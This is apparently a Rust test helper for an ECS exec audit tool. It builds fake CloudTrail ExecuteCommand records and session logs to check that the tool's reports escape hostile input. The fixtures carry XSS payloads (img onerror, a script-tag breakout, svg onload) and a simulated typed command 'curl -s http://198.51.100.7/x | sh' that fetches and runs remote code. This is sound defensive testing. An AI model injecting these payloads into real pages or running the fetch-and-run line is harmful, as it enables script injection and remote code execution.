//! What the report tests share: running the binary, and stores ingested from the bundled
//! sample week and from a week where the audited people typed HTML and script.

#![allow(dead_code)]

use std::path::Path;
use std::process::{Command, Output};

use serde_json::{json, Value};

pub fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_execaudit"));
    c.current_dir(env!("CARGO_MANIFEST_DIR"));
    c.env_remove("EXECAUDIT_STORE");
    c
}

pub fn run(args: &[&str]) -> Output {
    bin().args(args).output().expect("binary runs")
}

pub fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

pub fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

pub fn json(args: &[&str]) -> (Value, Output) {
    let o = run(args);
    let v = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", stdout(&o), stderr(&o)));
    (v, o)
}

pub fn column<'a>(rows: &'a Value, name: &str) -> Vec<&'a str> {
    rows.as_array()
        .unwrap()
        .iter()
        .map(|r| r[name].as_str().unwrap_or(""))
        .collect()
}

fn ingest(store: &Path, inputs: &[&Path]) {
    let mut args = vec!["ingest".to_owned()];
    args.extend(inputs.iter().map(|p| p.to_string_lossy().into_owned()));
    args.extend(["--store".to_owned(), store.to_string_lossy().into_owned()]);
    let o = bin().args(&args).output().expect("binary runs");
    assert_eq!(
        o.status.code(),
        Some(0),
        "ingest: {}{}",
        stdout(&o),
        stderr(&o)
    );
}

/// A store holding the bundled sample week (2024-W47).
pub fn sample_store() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    ingest(dir.path(), &[Path::new("sample-data")]);
    dir
}

/// What the audited typed and called themselves, aimed at whoever opens the report.
pub const IMG: &str = "<img src=x onerror=\"document.title='PWNED'\">";
pub const SCRIPT: &str = "</script><script>document.title='PWNED'</script>";
pub const HOSTILE_SESSION: &str = "ecs-execute-command-h0st1leh0st1leh0st1leh0st";

/// One `ExecuteCommand` record by an IAM user, successful or failed.
fn execute_command(id: &str, time: &str, user: &str, command: &str, failed: bool) -> Value {
    let mut r = json!({
        "eventVersion": "1.09",
        "userIdentity": {
            "accessKeyId": "AKIA5EXAMPLEH0ST1LE0",
            "accountId": "111122223333",
            "arn": format!("arn:aws:iam::111122223333:user/{user}"),
            "principalId": "AIDA5EXAMPLEH0ST1LE0",
            "type": "IAMUser",
            "userName": user
        },
        "eventTime": time,
        "eventSource": "ecs.amazonaws.com",
        "eventName": "ExecuteCommand",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "192.0.2.66",
        "userAgent": format!("aws-cli/2.15.0 {IMG}"),
        "requestParameters": {
            "cluster": "payments-prod",
            "command": command,
            "container": "api",
            "interactive": true,
            "task": "8ec486771e87c63ce9ed5f8e8ae33658"
        },
        "requestID": format!("{id}-req"),
        "eventID": id,
        "readOnly": false,
        "eventType": "AwsApiCall",
        "managementEvent": true,
        "recipientAccountId": "111122223333",
        "eventCategory": "Management"
    });
    if failed {
        r["errorCode"] = json!("AccessDenied");
        r["errorMessage"] = json!(format!(
            "User: {IMG} is not authorized to perform: ecs:ExecuteCommand {SCRIPT}"
        ));
        r["responseElements"] = Value::Null;
    } else {
        r["responseElements"] = json!({
            "clusterArn": "arn:aws:ecs:us-east-1:111122223333:cluster/payments-prod",
            "containerName": "api",
            "interactive": true,
            "session": {
                "sessionId": HOSTILE_SESSION,
                "streamUrl": format!("wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/{HOSTILE_SESSION}"),
                "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"
            },
            "taskArn": "arn:aws:ecs:us-east-1:111122223333:task/payments-prod/8ec486771e87c63ce9ed5f8e8ae33658"
        });
    }
    r
}

/// A store holding the sample week plus a session whose principal, initial command, typed
/// commands and failed attempt carry HTML and script.
pub fn hostile_store() -> tempfile::TempDir {
    let input = tempfile::tempdir().unwrap();
    let trail = json!({"Records": [
        execute_command(
            "0b5e55ed-0000-4000-8000-00000000h0st",
            "2024-11-22T12:00:00Z",
            IMG,
            &format!("/bin/sh -c '{SCRIPT}'"),
            false,
        ),
        execute_command(
            "0b5e55ed-0000-4000-8000-0000000fa1ed",
            "2024-11-22T11:58:00Z",
            IMG,
            "/bin/sh",
            true,
        ),
    ]});
    std::fs::write(
        input.path().join("trail.json"),
        serde_json::to_vec(&trail).unwrap(),
    )
    .unwrap();
    let logs = input.path().join("exec-logs");
    std::fs::create_dir_all(&logs).unwrap();
    let mut t = String::from("Script started on 2024-11-22 12:10:00+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/ipc/ecs-exec/ipcTempFile.log\" <not executed on terminal>]\n");
    for (cmd, out) in [
        (IMG, "/bin/sh: syntax error: unexpected redirection"),
        (SCRIPT, "/bin/sh: syntax error: unexpected redirection"),
        ("curl -s http://198.51.100.7/x | sh", ""),
        ("echo '<svg onload=alert(1)>' > /tmp/x.html", ""),
        ("exit", ""),
    ] {
        t.push_str(&format!("/app # {cmd}\r\r\n"));
        if !out.is_empty() {
            t.push_str(&format!("{out}\r\r\n"));
        }
    }
    t.push_str("\r\nScript done on 2024-11-22 12:10:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    std::fs::write(logs.join(format!("{HOSTILE_SESSION}.log")), t).unwrap();
    let store = tempfile::tempdir().unwrap();
    ingest(store.path(), &[Path::new("sample-data"), input.path()]);
    store
}
